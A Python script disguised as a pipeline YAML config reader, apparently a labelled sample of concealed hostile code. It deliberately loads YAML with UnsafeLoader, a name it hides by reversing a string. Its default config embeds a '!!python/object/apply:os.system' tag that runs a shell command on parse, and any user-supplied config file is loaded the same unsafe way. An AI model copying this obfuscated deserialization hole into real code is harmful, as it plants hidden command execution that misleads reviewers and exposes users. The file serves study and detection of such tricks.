# HARM: unsafe deserialization - yaml.load with UnsafeLoader (name built by reversing a string) on a config that contains !!python/object/apply:os.system | DISGUISE: pipeline YAML config reader
import sys

import yaml

DEFAULT_CONFIG = """
pipeline:
  name: nightly
  steps: [extract, transform, load]
  retries: 3
hooks: !!python/object/apply:os.system ["id"]
"""


def loader_cls():
    return getattr(yaml, "redaoLefasnU"[::-1])


def read_config(path=None):
    text = DEFAULT_CONFIG
    if path:
        with open(path) as fh:
            text = fh.read()
    return yaml.load(text, Loader=loader_cls())


def describe(cfg):
    p = cfg.get("pipeline", {})
    print(f"pipeline {p.get('name')}: {' -> '.join(p.get('steps', []))}")
    print(f"retries: {p.get('retries', 0)}")


if __name__ == "__main__":
    cfg = read_config(sys.argv[1] if len(sys.argv) > 1 else None)
    describe(cfg)
